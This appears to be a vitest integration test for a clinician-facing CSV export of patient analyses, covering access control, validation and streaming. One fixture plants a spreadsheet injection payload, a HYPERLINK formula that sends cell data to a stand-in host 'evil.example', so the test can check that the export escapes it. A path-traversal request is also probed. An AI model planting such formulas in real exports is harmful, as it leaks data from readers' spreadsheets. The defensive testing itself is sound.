import { ANALYSES_CSV_HEADER, ANALYSIS_COLUMNS, analyzeSession, synthesizeSession, type AnalysisDoc } from '@m2m/analysis-core';
import { ERROR_CATALOGUE } from '@m2m/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCareWorld, type CareUser, type CareWorld } from './support/careWorld.js';

/** Text found only in data the clinician must not get: any answer that carries it has leaked. */
const SECRET = 'not-for-this-clinician-5b1e';

const careAnalysis = (patientId: string, analysis: AnalysisDoc) => ({
  _id: `analysis:${patientId}:${analysis.sessionId}`,
  type: 'care-analysis',
  schemaVersion: 1,
  patientId,
  analysis,
});

describe('REST: GET /api/care/patients/<patientId>/analyses.csv', () => {
  let world: CareWorld;
  let patient: CareUser;
  let other: CareUser;
  let clinician: CareUser;
  let stranger: CareUser;
  let analyses: AnalysisDoc[];
  const csvPath = (patientId: string) => `/api/care/patients/${patientId}/analyses.csv`;

  beforeAll(async () => {
    world = await startCareWorld();
    [patient, other, clinician, stranger] = await Promise.all([world.patient(), world.patient(), world.clinician(), world.clinician()]);
    await world.link(patient, clinician);
    await world.link(other, clinician);
    analyses = [3, 1, 2].map((day) => analyzeSession(synthesizeSession({ seed: 300 + day, durationS: 3, startedAt: `2026-11-0${day}T09:00:00.000Z` })));
    analyses[1] = { ...analyses[1]!, session: { ...analyses[1]!.session!, gameId: '=HYPERLINK("http://evil.example/?"&A1)' } };
    for (const analysis of analyses) await world.putCareDoc(clinician, careAnalysis(patient.userId, analysis));
    // Beside them in the same care database: another patient's analysis and the patient's summary; neither is a row of this CSV.
    const elsewhere = analyzeSession(synthesizeSession({ seed: 399, durationS: 3 }));
    await world.putCareDoc(clinician, careAnalysis(other.userId, { ...elsewhere, analysisVersion: SECRET }));
    await world.putCareDoc(clinician, { _id: `patient:${patient.userId}`, type: 'care-patient', schemaVersion: 1, patientId: patient.userId, username: SECRET });
    // In the patient's own progress database only: the export never reads it.
    const own = analyzeSession(synthesizeSession({ seed: 398, durationS: 3 }));
    const { id, ...rest } = { ...own, analysisVersion: SECRET };
    expect((await world.store.json('PUT', `/${patient.dbs.progress}/${encodeURIComponent(id)}`, rest)).status).toBe(201);
  });
  afterAll(async () => {
    await world.close();
  });

  it("gives a linked clinician the patient's analyses from the care database, oldest first, injection-safe", async () => {
    const res = await clinician.fetch(csvPath(patient.userId));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="analyses-${patient.userId}.csv"`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const text = await res.text();
    expect(text).not.toContain(SECRET);
    const lines = text.split('\r\n');
    expect(lines.pop()).toBe('');
    expect(`${lines[0]}\r\n`).toBe(ANALYSES_CSV_HEADER);
    const sessionIds = lines.slice(1).map((line) => line.split(',')[0]);
    expect(sessionIds).toEqual(analyses.map((a) => a.sessionId).sort());
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(lines[1]!.split(',').length).toBeGreaterThanOrEqual(ANALYSIS_COLUMNS.length);
  });

  it('streams a long export page by page', async () => {
    const many = await world.patient();
    await world.link(many, clinician);
    const base = analyses[0]!;
    const docs = Array.from({ length: 520 }, (_, i) => {
      const sessionId = `ses_01J${String(i).padStart(23, '0')}`;
      return careAnalysis(many.userId, { ...base, id: `analysis:${sessionId}`, sessionId });
    });
    expect((await world.store.json('POST', `/${clinician.careDb}/_bulk_docs`, { docs })).status).toBe(201);
    const text = await (await clinician.fetch(csvPath(many.userId))).text();
    const rows = text.split('\r\n').slice(1, -1);
    expect(rows).toHaveLength(520);
    expect(rows.map((row) => row.split(',')[0])).toEqual(docs.map((d) => d.analysis.sessionId));
  });

  it('refuses a clinician without a link, and one whose link the patient revoked, though the care database still holds the data', async () => {
    for (const [who, path] of [[stranger, csvPath(patient.userId)], [clinician, csvPath(stranger.userId)]] as const) {
      const answer = await who.json('GET', path);
      expect(answer.status).toBe(403);
      expect(answer.body.code).toBe('patient_not_linked');
      expect(answer.body.error).toBe(ERROR_CATALOGUE.patient_not_linked.error);
      expect(JSON.stringify(answer.body)).not.toContain(SECRET);
    }
    const revoker = await world.patient();
    await world.link(revoker, clinician);
    await world.putCareDoc(clinician, careAnalysis(revoker.userId, { ...analyses[0]!, analysisVersion: SECRET }));
    expect((await clinician.fetch(csvPath(revoker.userId))).status).toBe(200);
    expect((await revoker.json('DELETE', `/api/care/links/${clinician.userId}`)).status).toBe(200);
    const after = await clinician.json('GET', csvPath(revoker.userId));
    expect(after.status).toBe(403);
    expect(after.body.code).toBe('patient_not_linked');
    expect(JSON.stringify(after.body)).not.toContain(SECRET);
  });

  it("refuses patients, their own export included, and anyone without a token", async () => {
    for (const path of [csvPath(patient.userId), csvPath(other.userId)]) {
      const answer = await patient.json('GET', path);
      expect(answer.status).toBe(403);
      expect(answer.body.code).toBe('wrong_role');
    }
    expect((await fetch(`${world.gatewayUrl}${csvPath(patient.userId)}`)).status).toBe(401);
  });

  it('refuses a path that names no user id and any query parameter with 400', async () => {
    for (const path of ['/api/care/patients/not-a-user/analyses.csv', `/api/care/patients/${patient.userId.toUpperCase()}/analyses.csv`, `${csvPath(patient.userId)}?patientId=${other.userId}`]) {
      const answer = await clinician.json('GET', path);
      expect(answer.status, path).toBe(400);
      expect(answer.body.code, path).toBe('invalid_request');
    }
    expect((await clinician.fetch(`/api/care/patients/${patient.userId}%2F..%2F${other.userId}/analyses.csv`)).status).toBeGreaterThanOrEqual(400);
  });
});
